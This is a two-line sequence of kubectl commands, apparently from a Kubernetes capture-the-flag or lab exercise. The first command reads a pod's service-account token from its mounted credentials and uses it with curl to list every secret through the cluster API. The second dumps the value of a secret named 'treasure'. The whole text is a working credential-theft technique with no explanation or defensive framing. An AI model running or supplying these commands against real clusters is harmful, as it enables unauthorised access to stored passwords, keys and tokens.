kubectl exec probe -- sh -c 'curl -sk -H "Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)" https://kubernetes.default/api/v1/secrets'
kubectl get secret treasure -o jsonpath='{.data.value}'
